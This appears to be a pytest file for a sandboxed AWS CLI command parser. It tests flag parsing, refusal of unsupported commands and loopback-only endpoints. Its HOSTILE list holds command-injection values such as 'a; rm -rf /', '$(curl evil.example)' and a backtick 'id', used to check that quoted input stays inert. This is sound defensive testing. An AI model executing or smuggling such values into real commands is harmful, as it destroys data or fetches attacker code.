"""Reading ``aws ...`` command lines, and the ``call_aws`` entries built from them (in process)."""

from __future__ import annotations

import json
import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from infra_mcp.sandbox.cloud import SandboxCloud
from infra_mcp.sandbox.commands import CommandError, parse_cli_command
from infra_mcp.sandbox.mcp_server import CommandRefused, CommandResult, run_cli_command

SUCCESS_KEYS = {
    "cli_command",
    "response",
    "metadata",
    "validation_failures",
    "missing_context_failures",
    "failed_constraints",
}
RESPONSE_KEYS = {"error", "status_code", "error_code", "pagination_token", "as_json"}


def parse(command: str):  # type: ignore[no-untyped-def]
    return parse_cli_command(command, default_region="us-east-1")


def test_flags_become_the_api_parameters_of_the_operation() -> None:
    parsed = parse(
        "aws cloudcontrol create-resource --type-name AWS::EC2::VPC "
        '--desired-state \'{"CidrBlock": "10.0.0.0/16"}\' --client-token abc --region eu-west-1'
    )
    assert (parsed.service, parsed.operation, parsed.region) == ("cloudcontrol", "CreateResource", "eu-west-1")
    assert parsed.params == {
        "TypeName": "AWS::EC2::VPC",
        "DesiredState": '{"CidrBlock": "10.0.0.0/16"}',
        "ClientToken": "abc",
    }


def test_the_region_defaults_when_the_command_names_none() -> None:
    assert parse("aws sts get-caller-identity").region == "us-east-1"


def test_flag_equals_value_is_read_like_flag_space_value() -> None:
    assert parse("aws cloudcontrol list-resources --type-name=AWS::S3::Bucket --max-results=5").params == {
        "TypeName": "AWS::S3::Bucket",
        "MaxResults": 5,
    }


HOSTILE = [
    'it\'s "quoted"',
    "a; rm -rf /",
    "$(curl evil.example)",
    "`id`",
    "line\nbreak\ttab",
    "--endpoint-url http://evil.example",
    "ünïcødé ✓ 🚀",
    "x" * 100_000,
]


@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_a_quoted_value_arrives_as_exactly_one_unchanged_parameter(value: str) -> None:
    desired = json.dumps({"Description": value})
    command = f"aws cloudcontrol create-resource --type-name AWS::EC2::VPC --desired-state {shlex.quote(desired)}"
    assert parse(command).params["DesiredState"] == desired


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=1).filter(lambda s: not s.startswith("-")))
def test_any_quoted_identifier_round_trips(value: str) -> None:
    command = f"aws cloudcontrol get-resource --type-name AWS::EC2::VPC --identifier {shlex.quote(value)}"
    assert parse(command).params["Identifier"] == value


def test_cli_input_json_is_not_read_and_the_required_flags_are_reported_missing() -> None:
    with pytest.raises(CommandError, match="--type-name, --desired-state"):
        parse('aws cloudcontrol create-resource --cli-input-json \'{"TypeName": "AWS::EC2::VPC"}\'')


@pytest.mark.parametrize(
    "command",
    [
        "",
        "ls -la",
        "aws",
        "aws s3 ls",
        "aws cloudcontrol explode-resource --type-name X",
        "aws cloudcontrol get-resource --type-name AWS::EC2::VPC --identifier vpc-1 --colour blue",
        "aws cloudcontrol get-resource --type-name AWS::EC2::VPC --identifier",
        "aws cloudcontrol get-resource --type-name AWS::EC2::VPC --identifier a --identifier b",
        "aws cloudcontrol get-resource --type-name AWS::EC2::VPC stray --identifier a",
        "aws cloudcontrol get-resource --type-name 'unbalanced --identifier a",
        "aws cloudcontrol list-resources --type-name AWS::EC2::VPC --max-results many",
        "aws cloudcontrol list-resources --type-name AWS::EC2::VPC --region mars",
        "aws cloudcontrol list-resources --type-name AWS::EC2::VPC --output table",
        "aws cloudcontrol list-resources --type-name AWS::EC2::VPC --endpoint-url https://cloudcontrolapi.amazonaws.com",
        "aws cloudcontrol list-resources --type-name AWS::EC2::VPC --endpoint-url http://10.0.0.1:4566",
    ],
)
def test_a_command_the_sandbox_cannot_run_is_refused(command: str) -> None:
    with pytest.raises(CommandError):
        parse(command)


@pytest.mark.parametrize("endpoint", ["http://127.0.0.1:4566", "http://localhost:8080", "http://[::1]:9000"])
def test_a_loopback_endpoint_url_is_accepted(endpoint: str) -> None:
    command = f"aws cloudcontrol list-resources --type-name AWS::EC2::VPC --endpoint-url {endpoint}"
    assert parse(command).params == {"TypeName": "AWS::EC2::VPC"}


def test_a_successful_command_is_a_full_call_aws_entry() -> None:
    entry = run_cli_command(SandboxCloud(), "aws sts get-caller-identity")
    assert isinstance(entry, CommandResult)
    dumped = entry.model_dump()
    assert set(dumped) == SUCCESS_KEYS
    assert set(dumped["response"]) == RESPONSE_KEYS
    assert dumped["response"]["status_code"] == 200
    assert json.loads(dumped["response"]["as_json"])["Account"] == "000000000000"
    assert dumped["metadata"]["sandbox"] is True


def test_an_aws_error_fills_the_response_error_fields() -> None:
    command = "aws cloudcontrol get-resource --type-name AWS::EC2::VPC --identifier vpc-00000000000000000"
    response = run_cli_command(SandboxCloud(), command).model_dump()["response"]
    assert (response["status_code"], response["error_code"], response["as_json"]) == (
        400,
        "ResourceNotFoundException",
        None,
    )
    assert response["error"].startswith("An error occurred (ResourceNotFoundException)")


def test_a_refused_command_is_an_entry_with_only_the_command_and_the_error() -> None:
    entry = run_cli_command(SandboxCloud(), "aws cloudcontrol nope")
    assert isinstance(entry, CommandRefused)
    assert set(entry.model_dump()) == {"cli_command", "error"}
    assert entry.error.startswith("Error while validating the command: ")
